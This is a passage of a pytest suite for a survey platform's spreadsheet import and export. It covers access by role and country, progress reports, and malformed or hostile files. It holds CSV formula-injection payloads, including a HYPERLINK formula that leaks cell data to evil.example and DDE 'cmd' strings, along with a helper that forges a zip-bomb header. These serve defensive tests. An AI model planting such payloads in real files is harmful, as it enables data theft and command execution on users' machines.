    client.force_login(officer)
    post_import(client, wave, kobo_xlsx(), "export.xlsx")
    for path in kept_files(media):
        path.unlink()

    run_worker()

    run = TaskProgress.objects.get()
    assert run.status == TaskProgress.Status.FAILED
    assert "nothing was stored" in run.message
    assert_nothing_stored()


@BACKGROUND
def test_only_the_officer_who_imported_and_administrators_see_the_report(
    client, officer, wave, version, media
):
    client.force_login(officer)
    post_import(client, wave, kobo_xlsx(), "export.xlsx")
    run_worker()
    run = TaskProgress.objects.get()
    page = f"/surveys/waves/{wave.pk}/import/{run.pk}/"
    other_wave = new_wave(version, "another round")

    assert client.get(page).status_code == 200
    assert client.get(f"/surveys/waves/{other_wave.pk}/import/{run.pk}/").status_code == 404
    client.force_login(user_with_role(Role.PROGRAMME_OFFICER))  # a colleague
    assert client.get(page).status_code == 404
    assert page not in client.get(f"/surveys/waves/{wave.pk}/import/").content.decode()
    client.force_login(user_with_role(Role.ANALYST))
    assert client.get(page).status_code == 403
    client.force_login(user_with_role(Role.ADMINISTRATOR))
    assert client.get(page).status_code == 200


@BACKGROUND
def test_the_report_says_how_many_respondents_went_into_the_registry(
    client, officer, mapping_wave, media
):
    client.force_login(officer)
    _headers, _row, content = mapping_export()
    post_import(client, mapping_wave, content, "diaspora_mapping.xlsx")

    run_worker()

    run = TaskProgress.objects.get()
    page = client.get(f"/surveys/waves/{mapping_wave.pk}/import/{run.pk}/").content.decode()
    assert run.result["report"]["registered"] == 1
    assert "1 respondents who agreed to be registered were added to the registry" in page
    assert Member.objects.get().given_name == "Amina"


def test_a_progress_row_of_another_task_is_no_import_report(client, officer, wave):
    client.force_login(officer)
    other = TaskProgress.objects.create(
        label="ESCO import", owner=officer, result={"wave": wave.pk}
    )

    assert client.get(f"/surveys/waves/{wave.pk}/import/{other.pk}/").status_code == 404


def test_an_import_tells_how_far_it_has_gone(wave):
    calls = []

    report = submissions.import_file(
        None, wave, io.BytesIO(kobo_xlsx()), "x.xlsx", progress=lambda *a: calls.append(a)
    )

    assert report.created == 2
    assert calls == [("check", 1, 2), ("check", 2, 2), ("store", 2, 2)]


def test_a_report_kept_as_json_holds_its_counts_problems_and_notices(wave):
    refused = run(wave, kobo_xlsx(main=(AWA, dict(JOSE, **{"person/age": "12"}))), "x.xlsx")

    data = refused.as_dict()

    assert data["file_name"] == "x.xlsx" and data["total_problems"] == 1
    assert data["problems"] == [p.as_dict() for p in refused.problems]
    assert (data["created"], data["skipped"], data["registered"]) == (0, 0, 0)
    assert isinstance(data["notices"], list)


@override_settings(LIAISON_MAX_UPLOAD_BYTES=1000)
def test_a_file_above_the_upload_limit_is_refused_before_reading(client, officer, wave, media):
    client.force_login(officer)

    response = post_import(client, wave, kobo_xlsx(), "export.xlsx")

    assert response.status_code == 200 and "the limit is" in response.content.decode()
    assert not TaskProgress.objects.exists() and kept_files(media) == []
    assert_nothing_stored()


def test_other_roles_may_neither_import_nor_export(client, wave):
    client.force_login(user_with_role(Role.ANALYST))

    assert client.get(f"/surveys/waves/{wave.pk}/import/").status_code == 403
    assert (
        client.post(f"/surveys/waves/{wave.pk}/export.xlsx", {"purpose": "x" * 20}).status_code
        == 403
    )
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()


# --- the layouts themselves ------------------------------------------------------------------


def test_headers_are_recognised_from_the_form_not_from_their_spelling(version):
    layout = exchange.Layout(version.definition)
    columns = layout.columns("")
    children = layout.columns("children")

    assert columns["person/skills/driving"].part == "choice:driving"
    assert columns["person-full_name"].field.name == "full_name"
    assert columns["_place_precision"].part == "geo:3"
    assert columns["place-Accuracy"].part == "geo:3"
    assert children["children/child_age"].field.name == "child_age"
    assert children["child_age"].field.name == "child_age"
    assert "child_age" not in columns


NESTED = [
    ["type", "name", "label", "required", "constraint", "constraint_message", "calculation"],
    ["text", "village", "Village", "yes", "", "", ""],
    ["begin_repeat", "person", "Person", "", "", "", ""],
    ["text", "pname", "Name", "yes", "", "", ""],
    ["begin_group", "work", "Work", "", "", "", ""],
    ["begin_repeat", "job", "Job", "", "", "", ""],
    ["text", "title", "Title", "yes", "", "", ""],
    ["end_repeat", "", "", "", "", "", ""],
    ["end_group", "", "", "", "", "", ""],
    ["end_repeat", "", "", "", "", "", ""],
]


def test_repeats_inside_repeats_are_linked_by_their_keys_and_exported_again(client, officer, db):
    saved, _created = services.upload(None, io.BytesIO(form_workbook(NESTED)), "nested.xlsx")
    wave = new_wave(saved)
    key = f"uuid:{UUID1}"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "household_test.csv",
            text_csv(
                ["SubmissionDate", "village", "meta-instanceID", "KEY", "FormVersion"],
                [{"village": "Ndem", "meta-instanceID": key, "KEY": key, "FormVersion": "2025-01"}],
            ),
        )
        archive.writestr(
            "household_test-person.csv",
            text_csv(
                ["pname", "PARENT_KEY", "KEY"],
                [
                    {"pname": "Awa", "PARENT_KEY": key, "KEY": f"{key}/person[1]"},
                    {"pname": "Moussa", "PARENT_KEY": key, "KEY": f"{key}/person[2]"},
                ],
            ),
        )
        archive.writestr(
            "household_test-job.csv",
            text_csv(
                ["title", "PARENT_KEY", "KEY"],
                [
                    {
                        "title": "nurse",
                        "PARENT_KEY": f"{key}/person[1]",
                        "KEY": f"{key}/person[1]/work/job[1]",
                    },
                    {
                        "title": "farmer",
                        "PARENT_KEY": f"{key}/person[2]",
                        "KEY": f"{key}/person[2]/work/job[1]",
                    },
                    {
                        "title": "teacher",
                        "PARENT_KEY": f"{key}/person[1]",
                        "KEY": f"{key}/person[1]/work/job[2]",
                    },
                ],
            ),
        )

    report = run(wave, out.getvalue(), "household_test.zip")

    assert report.problems == [], report.problems
    stored = Submission.objects.get()
    assert stored.data == {
        "village": "Ndem",
        "person": [
            {"pname": "Awa", "job": [{"title": "nurse"}, {"title": "teacher"}]},
            {"pname": "Moussa", "job": [{"title": "farmer"}]},
        ],
    }
    assert ("title", "1.2", "teacher", None, None) in answers_of(stored)
    assert ("title", "2.1", "farmer", None, None) in answers_of(stored)
    client.force_login(officer)
    for fmt in ("xlsx", "zip"):
        fresh = new_wave(saved, f"copy {fmt}")
        again = run(fresh, exported(client, wave, fmt).content, f"again.{fmt}")
        assert again.problems == [] and again.created == 1
        copy = Submission.objects.get(wave=fresh)
        assert copy.data == stored.data and answers_of(copy) == answers_of(stored)


def test_a_plain_spreadsheet_with_instance_ids_is_a_file_source(wave):
    headers = ["instanceID", "full_name", "age", "skills", "arrived"]
    row = {"instanceID": f"uuid:{UUID2}", **{k: JOSE_DATA[k] for k in headers[1:]}}

    report = run(wave, xlsx([("Sheet1", headers, [row])]), "answers.xlsx")

    assert report.problems == [] and report.source == "file"
    assert Submission.objects.get().source == "file"


def test_problems_of_cells_and_of_the_forms_rules_are_listed_together(wave):
    odd = dict(AWA, **{"person/skills/driving": "maybe"})
    young = dict(JOSE, **{"person/age": "12"})

    report = run(wave, kobo_xlsx(main=(odd, young)), "export.xlsx")

    assert [(p.row, p.column, p.message) for p in report.problems] == [
        (2, "person/skills/driving", "Write 1 (chosen) or 0 (not chosen), not “maybe”."),
        (3, "person/age", "18 or more."),
    ]
    assert_nothing_stored()


def test_the_import_page_offers_the_upload_and_the_three_downloads(client, officer, wave):
    client.force_login(officer)

    page = client.get(f"/surveys/waves/{wave.pk}/import/").content.decode()

    assert 'type="file"' in page and "children" in page
    for fmt in ("xlsx", "csv", "zip"):
        assert f"/surveys/waves/{wave.pk}/export.{fmt}" in page


# --- files built to hurt -------------------------------------------------------------------------


def xlsx_with(content, find, replace):
    """An XLSX workbook whose XML has ``find`` replaced by ``replace`` in every part: what a
    hand-made file can hold that openpyxl would not write."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info).replace(find, replace))
    return out.getvalue()


def test_an_answer_of_thousands_of_digits_is_a_problem_of_its_cell_not_a_crash(wave):
    huge = dict(JOSE, **{"person/age": "9" * 5000})

    report = run(wave, kobo_xlsx(main=(AWA, huge)), "export.xlsx")

    assert [(p.row, p.column, p.question) for p in report.problems] == [(3, "person/age", "age")]
    assert report.problems[0].message == "“" + "9" * 39 + "…” is too large."
    assert_nothing_stored()


def test_a_number_cell_of_thousands_of_digits_makes_the_workbook_unreadable_not_a_crash(wave):
    marked = dict(JOSE, **{"person/age": 31337})  # a number cell, swapped for a huge one
    content = xlsx_with(
        kobo_xlsx(main=(AWA, marked)), b"<v>31337</v>", b"<v>" + b"9" * 5000 + b"</v>"
    )

    report = run(wave, content, "export.xlsx")

    assert messages_of(report) == [
        "Row 3 of “Household test” cannot be read: it holds a cell that no export writes (a "
        "number thousands of digits long, a text of more than 131,072 characters)."
    ]
    assert report.problems[0].sheet == "export.xlsx"
    assert_nothing_stored()


def test_a_csv_field_beyond_the_csv_modules_limit_is_a_problem_not_a_crash(wave):
    main, _children = odk_rows()
    main[1]["person-full_name"] = "x" * 200_000

    report = run(wave, text_csv(ODK_MAIN, main), "household_test.csv")

    assert messages_of(report)[0].startswith("Row 3 of “household_test.csv” cannot be read")
    assert_nothing_stored()


@pytest.mark.parametrize("fmt", ["csv", "zip"])
def test_a_nul_character_in_any_cell_is_a_problem_of_its_sheet_row_and_column(wave, fmt):
    main, children = odk_rows()
    # Far beyond the first 4,096 characters, which the check for binary files reads.
    main[0]["person-full_name"] = "Awa " + "a" * 5000
    main[1]["person-full_name"] = "Jose\x00Reyes"
    children[1]["child_name"] = "Fa\x00tou"
    content = text_csv(ODK_MAIN, main) if fmt == "csv" else odk_zip(main=main, children=children)

    report = run(wave, content, f"household_test.{fmt}")

    found = [(p.sheet, p.row, p.column) for p in report.problems if "NUL" in p.message]
    expected = [("household_test.csv", 3, "person-full_name")]
    if fmt == "zip":
        expected.append(("household_test-children.csv", 3, "child_name"))
    assert found == expected
    # The report is kept as JSON in PostgreSQL, which refuses NUL characters there too.
    assert "\\u0000" not in json.dumps(report.as_dict())
    assert_nothing_stored()


def test_a_nul_character_in_a_header_is_no_export(wave):
    main, children = odk_rows()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("household_test.csv", text_csv(ODK_MAIN, main))
        archive.writestr("household_test-children.csv", text_csv(["child\x00name"], children))

    report = run(wave, out.getvalue(), "household_test.zip")

    assert [(p.sheet, p.message) for p in report.problems] == [
        ("household_test-children.csv", "The file is not a CSV, XLSX or zip file.")
    ]
    assert_nothing_stored()


def declared_larger(content, member, size):
    """A zip whose ``member`` says it unpacks to ``size`` bytes, in its local header and in the
    central directory (as a real bomb of that size would: zipfile never unpacks more than a
    member declares)."""
    data = bytearray(content)
    info = zipfile.ZipFile(io.BytesIO(content)).getinfo(member)
    struct.pack_into("<I", data, info.header_offset + 22, size)
    name = member.encode()
    start = data.find(b"PK\x01\x02")
    while start != -1:
        length = struct.unpack_from("<H", data, start + 28)[0]
        if bytes(data[start + 46 : start + 46 + length]) == name:
            struct.pack_into("<I", data, start + 24, size)
            break
        start = data.find(b"PK\x01\x02", start + 4)
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member).file_size == size
    return bytes(data)


def test_an_xlsx_that_would_unpack_beyond_the_limit_is_refused_before_it_is_opened(wave):
    out = io.BytesIO(kobo_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/filler.bin", b"\0" * (1 << 20))
    content = declared_larger(
        out.getvalue(), "xl/media/filler.bin", exchange.layout.MAX_UNZIPPED + 1
    )

    report = run(wave, content, "export.xlsx")

    assert messages_of(report) == [
        "The file unpacks to more than 1024 MB: it is too large to read, or not a real export. "
        "Split it into smaller files."
    ]
    assert_nothing_stored()


def test_a_small_number_cell_is_read_without_an_exponent(wave):
    # Number cells, as Kobo writes the parts of a geopoint: 0.00001 is 1e-05 to Python.
    near_null = dict(AWA, place=None, _place_latitude=0.00001, _place_longitude=-17.4441)

    report = run(wave, kobo_xlsx(main=(near_null, JOSE)), "export.xlsx")

    assert report.problems == [], report.problems
    awa = Submission.objects.get(instance_id=f"uuid:{UUID1}")
    assert awa.data["place"] == "0.00001 -17.4441 12 5"


# --- answers that look like formulas -------------------------------------------------------------

TRAPS = {
    "awa": '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "jose": "'=already quoted by its writer",
    "moussa": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fatou": "-2+3+cmd|' /C calc'!A0",
}


def trapped_wave(wave):
    main = (
        dict(AWA, **{"person/full_name": TRAPS["awa"]}),
        dict(JOSE, **{"person/full_name": TRAPS["jose"]}),
    )
    children = (
        dict(CHILDREN[0], **{"children/child_name": TRAPS["moussa"]}),
        dict(CHILDREN[1], **{"children/child_name": TRAPS["fatou"]}),
    )
    report = run(wave, kobo_xlsx(main=main, children=children), "export.xlsx")
    assert report.problems == [] and report.created == 2
    awa = Submission.objects.get(instance_id=f"uuid:{UUID1}")
    assert awa.data["full_name"] == TRAPS["awa"]
    assert [c["child_name"] for c in awa.data["children"]] == [TRAPS["moussa"], TRAPS["fatou"]]


def test_the_xlsx_export_writes_answers_that_look_like_formulas_as_text(client, officer, wave):
    trapped_wave(wave)
    client.force_login(officer)

    content = exported(client, wave, "xlsx").content

    parts = zipfile.ZipFile(io.BytesIO(content))
    sheets = [n for n in parts.namelist() if n.startswith("xl/worksheets/")]
    xml = b"".join(parts.read(n) for n in sheets)
    assert b"<f>" not in xml and b"HYPERLINK(" in xml  # there, but not as a formula
    book = load_workbook(io.BytesIO(content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    trapped = [c for c in cells if c.value in TRAPS.values()]
    assert len(trapped) == 4 and {c.data_type for c in trapped} == {"s"}


def test_a_control_character_in_an_answer_does_not_stop_the_xlsx_export(client, officer, wave):
    main, _children = odk_rows()
    main[1]["person-full_name"] = "Jose\x01Reyes"  # a CSV may hold it; XML may not
    assert run(wave, text_csv(ODK_MAIN, main), "household_test.csv").created == 2
    client.force_login(officer)

    book = load_workbook(io.BytesIO(exported(client, wave, "xlsx").content), read_only=True)

    names = [row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert names == ["Awa Diallo", "Jose\ufffdReyes"]


def test_the_csv_exports_guard_formulas_with_an_apostrophe_and_numbers_are_left_alone(
    client, officer, wave
):
    trapped_wave(wave)
    client.force_login(officer)

    kobo = exported(client, wave, "csv").content.decode()
    odk = zipfile.ZipFile(io.BytesIO(exported(client, wave, "zip").content))
    odk_main = odk.read("household_test.csv").decode()
    odk_children = odk.read("household_test-children.csv").decode()

    assert '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"' in kobo
    assert "\"''=already quoted by its writer\"" in kobo
    assert "'=HYPERLINK(" in odk_main and "''=already quoted" in odk_main
    assert "'@SUM(1+1)" in odk_children and "'-2+3+cmd" in odk_children
    # A negative longitude is a number, not a formula: written as it is.
    assert ",14.6937,-17.4441,12,5," in odk_main
    assert '"14.6937 -17.4441 12 5"' in kobo


@pytest.mark.parametrize(("fmt", "name"), [("xlsx", "a.xlsx"), ("csv", "a.csv"), ("zip", "a.zip")])
def test_answers_that_look_like_formulas_come_back_unchanged_from_each_export(
    client, officer, wave, version, fmt, name
):
    trapped_wave(wave)
    client.force_login(officer)
    response = exported(client, wave, fmt)

    fresh = new_wave(version, f"copy {fmt}")
    report = run(fresh, response.content, name)

    assert report.problems == [] and report.created == 2
    for instance_id in (f"uuid:{UUID1}", f"uuid:{UUID2}"):
        before = Submission.objects.get(wave=wave, instance_id=instance_id).data
        after = Submission.objects.get(wave=fresh, instance_id=instance_id).data
        if fmt == "csv":  # the main table only
            before = {k: v for k, v in before.items() if k != "children"}
        assert after == before


def test_a_guard_is_taken_off_only_where_an_export_would_have_put_one():
    for text in [
        "=1+1",
        "'=1+1",
        "''@x",
        "'plain",
        "plain'",
        "-7",
        "'-7",
        "-2+3+cmd|x",
        "+33 6 12 34 56 78",
        "'",
        "",
    ]:
        assert exchange.layout.unguard(exchange.layout.guard(text)) == text
    assert exchange.layout.guard("-17.4441") == "-17.4441"
    assert exchange.layout.guard("=A1") == "'=A1"
    assert exchange.layout.unguard("'plain") == "'plain"  # not a guard: kept


# --- officers of some countries only -------------------------------------------------------------


def mapping_rows(*people):
    """The mapping form's export holding ``people``: (uuid, given name, country, consent)."""
    headers, row, _content = mapping_export()
    rows = []
    for number, (uuid, given, country, consent) in enumerate(people, start=1):
        rows.append(
            dict(
                row,
                **{
                    "about_you/given_name": given,
                    "about_you/email": f"{given.lower()}@example.org",
                    "residence/residence_country": country,
                    "consent/consent_register": consent,
                    "meta/instanceID": f"uuid:{uuid}",
                    "_uuid": uuid,
                    "_index": number,
                },
            )
        )
    return xlsx([("Diaspora mapping survey", headers, rows)])


UUID3 = "aaaaaaaa-0000-4000-8000-000000000003"
UUID4 = "aaaaaaaa-0000-4000-8000-000000000004"


def test_an_officer_for_germany_may_not_register_a_respondent_living_in_france(mapping_wave):
    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "yes"))

    report = run(mapping_wave, content, "mapping.xlsx", officer_in("DE"))

    assert [(p.sheet, p.row, p.column, p.question) for p in report.problems] == [
        ("Diaspora mapping survey", 3, "residence/residence_country", "residence_country")
    ]
    assert "lives in FR, outside the countries you work for" in report.problems[0].message
    assert report.created == 0
    assert_nothing_stored()
    assert not Member.objects.exists()


def test_an_officer_for_germany_imports_germans_and_answers_without_consent(mapping_wave):
    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "no"))

    report = run(mapping_wave, content, "mapping.xlsx", officer_in("DE"))

    assert report.problems == [] and (report.created, report.registered) == (2, 1)
    assert list(Member.objects.values_list("given_name", "country_of_residence")) == [
        ("Lena", "DE")
    ]


def test_an_officer_for_everywhere_registers_respondents_of_any_country(mapping_wave, officer):
    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "yes"))

    report = run(mapping_wave, content, "mapping.xlsx", officer)

    assert report.problems == [] and report.registered == 2


def test_an_import_without_a_known_officer_registers_no_one(mapping_wave):
    # The task runs as the officer who queued it; one whose account is gone is no one's scope.
    report = run(mapping_wave, mapping_rows((UUID1, "Lena", "DE", "yes")), "mapping.xlsx")

    assert "outside the countries you work for" in messages_of(report)[0]
    assert_nothing_stored()


def scoped_exports_wave(mapping_wave, officer):
    """Lena (DE) and Amina (FR) imported; Karim, linked to a member in DE, and Nobody, of no
    known country, answered without the country question (a form of an older version)."""
    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "no"))
    assert run(mapping_wave, content, "mapping.xlsx", officer).created == 2
    for uuid, given, member in (
        (UUID3, "Karim", MemberFactory(given_name="Karim", country_of_residence="DE")),
        (UUID4, "Nobody", None),
    ):
        Submission.objects.create(
            wave=mapping_wave,
            version=mapping_wave.version,
            instance_id=f"uuid:{uuid}",
            status=Submission.Status.COMPLETE,
            source=Submission.Source.WEB,
            data={"given_name": given},
            member=member,
            submitted_at=timezone.now(),
        )


def exported_names(content):
    book = load_workbook(io.BytesIO(content), read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    column = rows[0].index("about_you/given_name")
    return sorted(r[column] for r in rows[1:])


def test_an_officer_for_germany_exports_only_the_respondents_living_in_germany(
    client, mapping_wave, officer
):
    scoped_exports_wave(mapping_wave, officer)
    german = officer_in("DE")
    client.force_login(german)

    page = client.get(f"/surveys/waves/{mapping_wave.pk}/export.xlsx").content.decode()
    response = exported(client, mapping_wave, "xlsx")

    assert "2 complete submissions will be exported." in page
    assert "2 other complete submissions are left out" in page
    assert exported_names(response.content) == ["Karim", "Lena"]
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert (event.actor_id, event.changes["submissions"], event.changes["outside_scope"]) == (
        german.pk,
        2,
        2,
    )
    for fmt in ("csv", "zip"):
        text = exported(client, mapping_wave, fmt).content
        if fmt == "zip":
            text = zipfile.ZipFile(io.BytesIO(text)).read("diaspora_mapping.csv")
        assert b"Lena" in text and b"Amina" not in text and b"Nobody" not in text


def test_an_officer_for_everywhere_exports_every_respondent(client, mapping_wave, officer):
    scoped_exports_wave(mapping_wave, officer)
    client.force_login(officer)

    page = client.get(f"/surveys/waves/{mapping_wave.pk}/export.xlsx").content.decode()
    response = exported(client, mapping_wave, "xlsx")

    assert "4 complete submissions will be exported." in page and "left out" not in page
    assert exported_names(response.content) == ["Amina", "Karim", "Lena", "Nobody"]


# --- refused after storing -----------------------------------------------------------------------


def test_an_import_the_registry_refuses_after_storing_reports_nothing_created(
    mapping_wave, officer
):
    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "<b>Karim</b>", "DE", "yes"))

    report = run(mapping_wave, content, "mapping.xlsx", officer)

    assert report.problems and report.problems[0].row == 3
    assert (report.created, report.registered) == (0, 0)
    assert (report.as_dict()["created"], report.as_dict()["registered"]) == (0, 0)
    assert_nothing_stored()
    assert not Member.objects.exists()
